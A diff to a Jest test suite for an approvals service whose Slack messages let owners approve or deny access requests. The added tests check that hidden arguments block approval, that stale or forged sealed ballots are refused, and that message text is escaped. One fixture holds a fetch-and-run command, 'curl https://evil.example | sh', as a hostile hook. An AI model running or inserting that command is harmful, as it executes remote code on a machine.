@@ -2,7 +2,10 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import * as z from 'zod';
+import { ballotSealer } from '../../../apps/approvals/channels/slack-decisions.ts';
 import { createAccessRequestStore } from '../../../apps/approvals/stores/access-request.store.ts';
+import { createSealer } from '../../../apps/shared/auth/sign-in-attempts.ts';
 import { newVote } from '../../support/access-requests.ts';
 import { ApprovalsUnderTest } from '../../support/approvals.ts';
 import { aUser, directoryText } from '../../support/directory.ts';
@@ -14,8 +17,11 @@ const at = (name: string, more: object = {}) => ({ emails: [{ value: `${name}@ex
 const owners = { stages: [{ name: 'owner', approvers: { people: ['alice', 'bob'] } }] };
 const templates = {
   owners,
-  chat: { ...owners, chatDecisions: true },
-  two: { stages: [{ ...owners.stages[0], quorum: 2, remindAfterSeconds: 600 }], chatDecisions: true },
+  chat: { ...owners, chatDecisions: true, notify: { arguments: ['path', 'content'] } },
+  two: {
+    stages: [{ ...owners.stages[0], quorum: 2, remindAfterSeconds: 600 }],
+    ...{ chatDecisions: true, notify: { arguments: ['path', 'content'] } },
+  },
 };
 
 describe('messages in Slack', () => {
@@ -31,7 +37,11 @@ describe('messages in Slack', () => {
     const text = 'SELECT approver_subject, verdict, via FROM approvals.vote WHERE access_request_id = $1 ORDER BY at';
     return (await service.database.pool.query(text, [id])).rows as unknown[];
   };
-  const told = (user: string) => waitFor(() => slack.whispers.find((one) => one.user === user)?.text);
+  /** Waits until an account is told this, in answer to a press. */
+  const isTold = async (user: string, words: string) => {
+    await waitFor(() => slack.whispers.some((one) => one.user === user && one.text.includes(words)));
+    slack.whispers.length = 0;
+  };
 
   beforeAll(async () => {
     writeFileSync(
@@ -73,7 +83,7 @@ describe('messages in Slack', () => {
     const title = '<!channel> *pay* <https://evil.example|here> & \u202egnp';
     const { id } = await service.open({ claims: { template: 'owners', display: { title } } });
     const { text, blocks } = await messageTo(id, 'U01ALICE');
-    expect(text).toContain('&lt;!channel&gt; *pay* &lt;https://evil.example|here&gt; &amp; \\u202egnp');
+    expect(text).toContain(String.raw`&lt;!channel&gt; *pay* &lt;https:\/\/evil.example|here&gt; &amp; \u202egnp`);
     expect(JSON.stringify(blocks)).not.toContain('mrkdwn');
   });
 
@@ -85,6 +95,63 @@ describe('messages in Slack', () => {
     expect(await votes(request.id)).toEqual([{ approver_subject: 'alice', verdict: 'approve', via: 'slack' }]);
     await waitFor(() => JSON.stringify(message.blocks).includes('Approved by alice.'));
     expect(buttonsOf(message)).toEqual({ link: expect.any(String) });
+  });
+
+  it('have no button for an approval if they leave something out of the call, and say what', async () => {
+    const hooks = { postDeploy: 'curl https://evil.example | sh' };
+    const request = await open('chat', { arguments: { path: '/a', content: 'b', hooks, replicas: 0 } });
+    const message = await messageTo(request.id, 'U01ALICE');
+    expect(Object.keys(buttonsOf(message))).toEqual(['deny', 'link']);
+    expect(JSON.stringify(message.blocks)).toContain('2 more arguments are not shown: hooks, replicas.');
+    await press({ user: 'U01ALICE', verdict: 'deny', value: buttonsOf(message).deny });
+    expect(await votes(request.id)).toEqual([{ approver_subject: 'alice', verdict: 'deny', via: 'slack' }]);
+  });
+
+  it('approve nothing by a press of a message that leaves something out, also with a button of earlier times', async () => {
+    const request = await open('chat', { arguments: { path: '/a', content: 'b', replicas: 0 } });
+    await messageTo(request.id, 'U01ALICE');
+    // The key is the right one: a message had this button before it had to show everything.
+    const { id: requestId, callDigest } = request;
+    const sealed = { requestId, callDigest, generation: 1, stage: 1, person: 'alice', verdict: 'approve' };
+    const schema = z.object({ requestId: z.string() }).loose();
+    const older = createSealer({ secret: service.secrets.sessionSecret, purpose: 'slack decision' }, schema);
+    for (const value of [await older.seal(sealed, 600), 'approve', undefined])
+      await press({ user: 'U01ALICE', verdict: 'approve', value });
+    const { seal } = ballotSealer(service.secrets.sessionSecret, { now: Date.now });
+    const until = new Date(Date.now() + 600_000).toISOString();
+    const ballot = { requestId, callDigest, generation: 1, stage: 1, until, mayApprove: true };
+    await press({ user: 'U01ALICE', verdict: 'approve', value: await seal(ballot, 'alice', 'approve') });
+    await isTold('U01ALICE', 'The message does not show all of the call.');
+    expect(await votes(request.id)).toEqual([]);
+  });
+
+  it('approve nothing by a press if messages show less since, or it is of another generation or stage', async () => {
+    const request = await open('chat');
+    const { approve } = buttonsOf(await messageTo(request.id, 'U01ALICE'));
+    const { config } = service;
+    const less = { ...config.approvals.templates['chat'], notify: { urgent: false, arguments: ['path'] } };
+    await service.live.change({
+      ...config,
+      approvals: { ...config.approvals, templates: { ...config.approvals.templates, chat: less } },
+    } as typeof config);
+    await press({ user: 'U01ALICE', verdict: 'approve', value: approve });
+    await isTold('U01ALICE', 'The message does not show all of the call.');
+    expect(await votes(request.id)).toEqual([]);
+    await service.live.change(config);
+    const { seal } = ballotSealer(service.secrets.sessionSecret, { now: Date.now });
+    const { id: requestId, callDigest } = request;
+    const until = new Date(Date.now() + 600_000).toISOString();
+    const ballot = { requestId, callDigest, generation: 1, stage: 1, until, mayApprove: true };
+    for (const other of [{ generation: 2 }, { stage: 2 }, { callDigest: `sha-256:${'0'.repeat(64)}` }])
+      await press({
+        user: 'U01ALICE',
+        verdict: 'approve',
+        value: await seal({ ...ballot, ...other }, 'alice', 'approve'),
+      });
+    expect(await votes(request.id)).toEqual([]);
+    await expect(seal({ ...ballot, mayApprove: false }, 'alice', 'approve')).rejects.toThrow('leaves something out');
+    await press({ user: 'U01ALICE', verdict: 'approve', value: approve });
+    expect(await votes(request.id)).toHaveLength(1);
   });
 
   it('count a press once, however often it arrives', async () => {
@@ -101,7 +168,7 @@ describe('messages in Slack', () => {
     const value = buttonsOf(await messageTo(request.id, 'U01ALICE')).approve;
     for (const user of ['U01BOB', 'U01DORA', 'U01ERIC', 'U01FRED']) {
       await press({ user, verdict: 'approve', value });
-      expect(await told(user)).toContain('This message is for another person.');
+      await isTold(user, 'This message is for another person.');
     }
     expect(await votes(request.id)).toEqual([]);
   });
@@ -122,7 +189,7 @@ describe('messages in Slack', () => {
     for (const one of refused) expect((await service.fetch(INTERACTIONS, one)).status).toBe(401);
     expect((await service.fetch(INTERACTIONS)).status).toBe(404);
     await press({ ...good, value: `${value?.slice(0, -4)}AAAA` });
-    expect(await told('U01ALICE')).toContain('This button is no longer valid.');
+    await isTold('U01ALICE', 'This button is no longer valid.');
     expect(await votes(request.id)).toEqual([]);
   });
 
